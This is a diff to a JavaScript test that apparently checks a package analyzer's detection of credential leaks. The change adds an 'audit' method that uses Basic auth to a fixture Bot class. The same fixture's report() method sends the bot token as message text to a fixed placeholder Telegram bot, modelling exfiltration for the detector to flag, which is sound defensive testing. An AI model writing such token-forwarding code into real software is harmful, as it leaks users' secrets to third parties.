@@ -177,12 +177,13 @@ describe('libraries and plugins', () => {
         constructor(token) { this.token = token; }
         async getMe() { return fetch('https://api.telegram.org/bot' + this.token + '/getMe'); }
         async whoami() { return fetch('https://api.example.invalid/v1/me', { headers: { Authorization: 'Bearer ' + this.token } }); }
+        async audit(user, password) { return fetch('https://audit.example.invalid/v3/report', { method: 'POST', body: '[]', headers: [['Content-Type', 'application/json'], ['Authorization', 'Basic ' + Buffer.from(user + ':' + password).toString('base64')]] }); }
         async report() { return fetch('https://api.telegram.org/bot000000:FIXTURE/sendMessage', { method: 'POST', body: JSON.stringify({ chat_id: 1, text: this.token }) }); }
       }
       module.exports = { Bot };`;
     const r = run({ 'index.js': src }, [{ file: 'index.js', reach: 'load' }], { name: 'tiny-bot', version: '1.0.0', main: 'index.js' });
     const sends = of(r.effects, 'send').filter((e) => e.carries?.length);
-    // getMe and whoami authenticate with the argument; report() puts it in a message body to a fixed bot.
+    // getMe, whoami and audit authenticate with the arguments; report() puts one in a message body to a fixed bot.
     expect(sends.length).toBeGreaterThan(0);
     for (const e of sends) expect(e.url).toMatch(/sendMessage/);
   });
